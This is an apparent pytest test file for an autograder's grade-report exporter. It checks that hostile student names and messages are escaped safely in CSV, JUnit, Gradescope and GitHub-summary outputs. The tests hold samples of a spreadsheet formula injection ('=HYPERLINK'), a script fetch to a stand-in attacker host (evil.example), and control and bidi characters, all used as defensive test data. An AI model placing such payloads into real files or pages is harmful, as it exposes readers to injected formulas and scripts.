"""Each format is read by its readers: CSV, JUnit, Gradescope, GitHub."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from hostile_results import EVIL, EXERCISES, LESSON, NAMES, Command, a_result, read_csv, worth, write
from junitparser import Error, Failure, JUnitXml
from lxml import etree, html
from markdown_it import MarkdownIt

from autograder.wording import clean

pytestmark = pytest.mark.slow


CH07 = "ch07_mlp_backprop"
SCHEMA = json.loads((Path(__file__).parents[1] / "gradescope_results.schema.json").read_text())


def test_the_gradebook_has_a_row_a_student_and_no_formulas(
    backprop: Command, hostile: Path, bytes_before: Any, tmp_path: Path
) -> None:
    assert backprop("report", hostile, "--format", "csv", "--out", tmp_path / "out").returncode == 0
    rows = read_csv(tmp_path / "out" / "grades.csv")
    assert len(rows) == len(NAMES)
    assert len({row["student"] for row in rows}) == len(NAMES)
    for row in rows:
        assert not re.match(r"\s*[=+\-@＝＋－＠]", row["student"])
        assert row["student"].isprintable()
        assert (row[LESSON], row[f"{LESSON} max"]) == ("4.5", worth(LESSON))
        assert (row["total"], row["total max"]) == ("4.5", worth(LESSON, CH07))
    by_name = {row["student"]: row for row in rows}
    assert by_name["ann"][CH07] == "0"
    assert by_name["Ann"][CH07] == "", "not handed in"
    assert "'=HYPERLINK(A1)" in by_name
    first = (tmp_path / "out" / "grades.csv").read_text(encoding="utf-8-sig").splitlines()[1:]
    assert all(line.startswith('"') for line in first), "a separator in a name could begin a cell elsewhere"
    long = read_csv(tmp_path / "out" / "exercises.csv")
    assert len(long) == EXERCISES * len(NAMES) + 1
    assert {row["status"] for row in long} == {"passed", "partial", "error", "missing", "unreadable"}
    assert sum(float(row["points"]) for row in long) == pytest.approx(4.5 * len(NAMES))


# JUnit
def test_junit_is_read_by_its_readers(backprop: Command, hostile: Path, bytes_before: Any, tmp_path: Path) -> None:
    assert backprop("report", hostile, "--format", "junit", "--out", tmp_path / "out").returncode == 0
    file = tmp_path / "out" / "junit.xml"
    etree.parse(file, etree.XMLParser(recover=False, resolve_entities=False))
    suites = list(JUnitXml.fromfile(str(file)))
    assert len(suites) == len(NAMES) + 1
    assert {suite.name for suite in suites} >= {f"{clean(name, 300)}/{LESSON}" for name in NAMES}
    for suite in suites:
        outcomes = [type(case.result[0]) if case.result else None for case in suite]
        counts = (len(outcomes), outcomes.count(Failure), outcomes.count(Error))
        assert counts == (suite.tests, suite.failures, suite.errors)
        assert counts in ((EXERCISES, EXERCISES - 2, 1), (1, 0, 1))
    told = next(suite for suite in suites if suite.name == f"ann/{LESSON}")
    failure = next(case.result[0] for case in told if case.name == "mul_vjp")
    assert failure.type == "add_not_summed"
    assert "fetch('http://evil.example/script')" in failure.message
    assert "\\x00\\x08\\x0b\\x1b[2J\\ufffe\\ud800 \\u202e" in failure.text
    assert {entry.name for entry in told.properties()} >= {"file", "sha256", "isolation"}


# Gradescope
def test_gradescope_files_follow_the_documented_format(
    backprop: Command, hostile: Path, bytes_before: Any, tmp_path: Path
) -> None:
    assert backprop("report", hostile, "--format", "gradescope", "--out", tmp_path / "out").returncode == 0
    files = sorted((tmp_path / "out" / "gradescope").iterdir())
    assert len(files) == len(NAMES)
    for file in files:
        data = json.loads(file.read_text(encoding="utf-8"))
        jsonschema.validate(data, SCHEMA)
        with_points = [test for test in data["tests"] if "score" in test]
        assert sum(test["score"] for test in with_points) == pytest.approx(data["score"])
        assert all(test["visibility"] == "visible" for test in with_points), "or students see no total"
        hidden = [test for test in data["tests"] if "(hidden input)" in test["name"]]
        assert len(hidden) == EXERCISES
        assert {test["visibility"] for test in hidden} == {"hidden"}
        assert len({test["number"] for test in data["tests"]}) == len(data["tests"])
    ann = json.loads((tmp_path / "out" / "gradescope" / "ann.json").read_text(encoding="utf-8"))
    assert sum(test.get("max_score", 0) for test in ann["tests"]) == float(worth(LESSON, CH07))
    assert "sha256" in ann["output"]
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**ann, "tests": [{**ann["tests"][0], "status": "partial"}]}, SCHEMA)


def test_gradescope_of_one_student_has_the_name_it_asks_for(backprop: Command, hostile: Path, tmp_path: Path) -> None:
    options = ("--format", "gradescope", "--student", "ann", "--hidden", "after_due_date", "--out", tmp_path / "out")
    assert backprop("report", hostile, *options).returncode == 0
    assert [file.name for file in (tmp_path / "out" / "gradescope").iterdir()] == ["results.json"]
    data = json.loads((tmp_path / "out" / "gradescope" / "results.json").read_text(encoding="utf-8"))
    jsonschema.validate(data, SCHEMA)
    assert {test["visibility"] for test in data["tests"]} == {"visible", "after_due_date"}


# GitHub
def rendered(markdown: str) -> Any:
    """Markdown as GitHub renders it: tables, bare addresses as links, HTML let through."""
    return html.fromstring(f"<div>{MarkdownIt('gfm-like', {'html': True}).render(markdown)}</div>")


def test_the_summary_is_a_table_with_the_right_cells(
    backprop: Command, hostile: Path, bytes_before: Any, tmp_path: Path
) -> None:
    summary = tmp_path / "summary.md"
    summary.write_text("before\n")
    done = backprop("report", hostile, "--format", "github", env={"GITHUB_STEP_SUMMARY": str(summary)})
    assert done.stdout == ""
    assert f"appended to {summary}" in done.stderr
    text = summary.read_text(encoding="utf-8")
    assert text.startswith("before\n")
    page = rendered(text)
    assert {part.tag for part in page.iter()} <= {
        *("div", "p", "h3", "h4", "ul", "li", "code", "table", "thead", "tbody", "tr", "th", "td")
    }
    students = page.xpath("//table")[-1]
    assert [len(row) for row in students.iter("tr")] == [4] * (len(NAMES) + 1)
    names = [row[0].text_content() for row in students.iter("tr")][1:]
    assert names == [clean(name, 300) for name in sorted(NAMES)]
    assert {row[1].text_content() for row in students.find("tbody")} == {f"4.5/{worth(LESSON)}"}


def test_the_summary_of_a_student_shows_messages_as_they_are(backprop: Command, hostile: Path, tmp_path: Path) -> None:
    done = backprop("report", hostile, "--format", "github", "--student", "ann", env={"GITHUB_STEP_SUMMARY": ""})
    page = rendered(done.stdout)
    assert not page.xpath("//script | //img | //meta | //a | //base")
    assert [part.text_content() for part in page.xpath("//summary")] == ["mul_vjp", "matmul_vjp"]
    blocks = page.xpath("//details/pre/code")
    assert len(blocks) == 2
    assert blocks[0].text_content().splitlines()[0] == EVIL.splitlines()[0]
    assert [len(row) for row in page.xpath("//table")[0].iter("tr")] == [4] * (EXERCISES + 1)


def test_the_summary_stays_within_the_limit(backprop: Command, tmp_path: Path) -> None:
    results, summary = tmp_path / "results", tmp_path / "summary.md"
    write(results, *(a_result(f"{i:03}{'|' * 240}", message="wrong") for i in range(80)))
    summary.write_text("x" * (1024 * 1024 - 50_000))
    backprop("report", results, "--format", "github", env={"GITHUB_STEP_SUMMARY": str(summary)})
    text = summary.read_text()
    assert 1024 * 1024 - 3_000 < len(text.encode()) <= 1024 * 1024
    left_out = int(re.findall(r"_(\d+) students more", text)[0])
    assert len(re.findall(r"^\| <code>\d{3}&", text, re.MULTILINE)) + left_out == 80
